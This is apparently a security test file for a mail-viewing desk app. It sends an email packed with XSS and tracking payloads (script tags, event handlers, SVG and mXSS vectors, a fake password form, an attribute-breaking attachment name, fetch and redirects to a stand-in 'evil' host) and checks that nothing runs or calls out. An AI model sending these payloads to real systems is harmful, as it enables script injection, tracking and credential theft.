import { expect } from '@jest/globals';
import { waitFor } from '../../support/wait-for.ts';
import { type Desk, describeDesk } from './desk.ts';

/** Whatever of it the browser asked for would be seen. */
const EVIL = 'http://127.0.0.2:9/evil';

const HTML = `<!doctype html><html><head>
<base href="${EVIL}/base/">
<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">
<link rel="stylesheet" href="${EVIL}/style.css">
<link rel="prefetch" href="${EVIL}/prefetch"><link rel="dns-prefetch" href="${EVIL}">
<link rel="preload" as="image" href="${EVIL}/preload.png">
<style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/background.png) }
@font-face { font-family: x; src: url(${EVIL}/font.woff2) } p { font-family: x; cursor: url(${EVIL}/c.cur), auto }</style>
<script>alert('script'); fetch('${EVIL}/fetch'); top.location = '${EVIL}/top'</script>
<script src="${EVIL}/script.js"></script>
</head><body onload="alert('onload')">
<p style="background-image:url(${EVIL}/inline.png)">Words of the person</p>
<img src="${EVIL}/pixel.gif" onerror="alert('onerror')" srcset="${EVIL}/set.png 2x">
<img src=x onerror=alert(1)>
<svg onload="alert('svg')"><image href="${EVIL}/svg.png"/><script>alert('in svg')</script><use href="${EVIL}/use.svg#a"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed">
<video src="${EVIL}/video.mp4" poster="${EVIL}/poster.png" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>
<form action="${EVIL}/form" id="f"><input name="password" autofocus onfocus="alert('focus')"><button>Sign in</button></form>
<a href="javascript:alert('link')">a link</a><a href="${EVIL}/link" ping="${EVIL}/ping">another</a>
<details open ontoggle="alert('toggle')"><summary>s</summary></details>
<template><img src=x onerror=alert('template')></template>
<noscript><img src="${EVIL}/noscript.png"></noscript>
<input type="image" src="${EVIL}/input.png"><table background="${EVIL}/table.png"><tr><td>cell</td></tr></table>
</body></html>`;

const SCRIPT_NAME = `"><img src=x onerror=alert('name')>.html`;

/** Everything that a mail could try. */
async function sendHostile(desk: Desk): Promise<void> {
  await desk.mail({
    id: 'hostile',
    subject: `<img src=x onerror=alert('subject')><script>alert(1)</script> hostile`,
    from: `"<svg onload=alert('from')>" <ann@example.com>`,
    headers: ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b'],
    body: [
      '--b',
      'Content-Type: text/html; charset=utf-8',
      '',
      HTML,
      '--b',
      `Content-Type: text/html; name="${SCRIPT_NAME.replace(/"/g, '\\"')}"`,
      `Content-Disposition: attachment; filename="${SCRIPT_NAME.replace(/"/g, '\\"')}"`,
      '',
      `<script>alert('attachment')</script>`,
      '--b--',
    ].join('\r\n'),
  });
}

describeDesk('A hostile mail', (test) => {
  test('runs nothing, goes nowhere and asks for nothing, in the list and opened', async (desk) => {
    await sendHostile(desk);
    const { page, open, row, faults, strangers, context } = await desk.operator();
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    await open('/messages?text=hostile');
    await row('hostile').filter({ hasText: 'Delivered' }).getByRole('link').click();
    await page
      .getByRole('heading', { level: 1, name: /<script>alert\(1\)<\/script> hostile/ })
      .waitFor();
    const address = page.url();
    await page.getByRole('button', { name: 'Show content' }).click();
    const content = page.getByRole('region', { name: 'Content' });
    const received = content.getByRole('region', { name: 'Received' });
    await received.getByRole('tab', { name: 'HTML' }).click();
    const frame = page.frameLocator('iframe[sandbox=""]');
    await frame.getByText('Words of the person').waitFor();
    await received.getByRole('tab', { name: 'Raw' }).click();
    await received.getByText('Message-ID: <hostile@example.com>').waitFor();
    await received.getByRole('tab', { name: 'HTML' }).click();
    await frame.getByText('Words of the person').waitFor();
    for (const tab of ['Fields', 'JSON', 'Text']) {
      await content
        .getByRole('region', { name: 'Submitted' })
        .getByRole('tab', { name: tab })
        .click();
    }
    await page.mouse.wheel(0, 5000);
    // Whoever clicks a link of the message leaves neither the console nor the frame.
    const link = frame.getByText('another', { exact: true });
    if ((await link.count()) > 0) await link.click({ force: true });
    const button = frame.getByRole('button', { name: 'Sign in' });
    if ((await button.count()) > 0) await button.click({ force: true });
    await page.evaluate('new Promise((done) => requestIdleCallback(done, { timeout: 2000 }))');

    expect(page.url()).toBe(address);
    expect(context.pages()).toHaveLength(1);
    expect(asked.filter((url) => !url.startsWith(`${desk.gateway.adminUrl}/`))).toEqual([]);
    expect(strangers).toEqual([]);
    expect(faults.filter((fault) => !fault.startsWith('CSP:'))).toEqual([]);
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('');
  });

  test('in the platform’s transcript it is text', async (desk) => {
    await sendHostile(desk);
    await waitFor('the platform to have it', () => desk.platform.messages.length > 0);
    const { page, open, faults, context } = await desk.operator();
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    await open('/platform?view=conversations');
    await page.locator('.wide-cell a').first().click();
    await page.getByText('Words of the person').first().waitFor();
    expect(asked.filter((url) => !url.startsWith(`${desk.gateway.adminUrl}/`))).toEqual([]);
    expect(faults).toEqual([]);
  });
});
